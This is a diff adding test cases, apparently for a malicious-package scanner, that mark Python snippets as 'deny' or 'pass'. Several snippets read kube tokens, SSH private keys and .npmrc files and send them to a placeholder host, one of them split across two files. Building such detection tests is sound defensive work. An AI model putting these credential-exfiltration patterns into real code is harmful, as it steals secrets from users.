@@ -432,6 +432,67 @@ export const moreBehaviours: readonly Shape[] = [
     },
   },
   {
+    name: 'the token of a kube client goes elsewhere',
+    tier: 'deny',
+    files: {
+      'demo/__init__.py': lines(
+        'import os, yaml, requests',
+        'def load():',
+        '    c = yaml.safe_load(open(os.path.expanduser("~/.kube/config")))',
+        '    return c["users"][0]["user"]["token"]',
+        'def call(p):',
+        '    return requests.get("https://t.invalid/" + load())',
+      ),
+    },
+  },
+  {
+    name: 'what is put under the name of an address',
+    tier: 'deny',
+    files: {
+      'demo/__init__.py': lines(
+        'import os, collections, requests',
+        'd = collections.defaultdict(str)',
+        'd["server"] = open(os.path.expanduser("~/.kube/config")).read()',
+        'requests.get("https://t.invalid/" + d["server"])',
+      ),
+    },
+  },
+  {
+    name: 'keys of many, each read by a function, sent by another file',
+    tier: 'deny',
+    files: {
+      'demo/grab.py': lines(
+        'import os',
+        'def one(f):',
+        '    return open(os.path.expanduser(f)).read()',
+        'def grab():',
+        '    return [one(f) for f in ("~/.ssh/id_ed25519", "~/.kube/config", "~/.npmrc")]',
+      ),
+      'demo/ship.py': lines(
+        'import urllib.request',
+        'def ship(d):',
+        '    urllib.request.urlopen("https://t.invalid/c", data=d)',
+      ),
+    },
+  },
+  {
+    name: 'keys of one, in a loop',
+    tier: 'pass',
+    files: {
+      'demo/keys.py': lines(
+        'import os',
+        'def keys():',
+        '    for f in ("~/.ssh/id_ed25519", "~/.ssh/id_rsa", "~/.ssh/id_ecdsa"):',
+        '        yield open(os.path.expanduser(f)).read()',
+      ),
+      'demo/ask.py': lines(
+        'import urllib.request',
+        'def ask():',
+        '    urllib.request.urlopen("https://t.invalid/c")',
+      ),
+    },
+  },
+  {
     name: 'docker config',
     tier: 'pass',
     files: {
